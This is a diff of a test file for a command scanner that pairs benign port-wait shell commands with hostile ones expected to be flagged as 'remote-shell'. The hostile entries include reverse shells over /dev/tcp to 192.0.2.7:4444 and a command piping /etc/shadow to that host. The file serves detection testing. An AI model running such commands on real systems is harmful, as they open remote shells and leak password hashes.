@@ -106,7 +106,10 @@ describe('downloads, checks and rights', () => {
     ['while ! timeout 1 bash -c "cat < /dev/null > /dev/tcp/${HOST}/${PORT}"; do sleep 1; done', []],
     ["timeout 1 bash -c '</dev/tcp/db/5432' 2>/dev/null", []],
     ["bash -c 'while !</dev/tcp/db/5432; do sleep 1; done; uwsgi app.ini'", []],
-    ["bash -c 'while !</dev/tcp/db/5432; do sleep 1; done; sh </dev/tcp/192.0.2.7/4444'", ['remote-shell', 'remote-shell']],
+    [
+      "bash -c 'while !</dev/tcp/db/5432; do sleep 1; done; sh </dev/tcp/192.0.2.7/4444'",
+      ['remote-shell', 'remote-shell'],
+    ],
     ["timeout 1 bash -c 'cat /etc/shadow > /dev/tcp/192.0.2.7/4444'", ['remote-shell']],
     ["bash -c 'exec 3<>/dev/tcp/192.0.2.7/4444; sh <&3'", ['remote-shell']],
     ['nc -z db 5432', []],
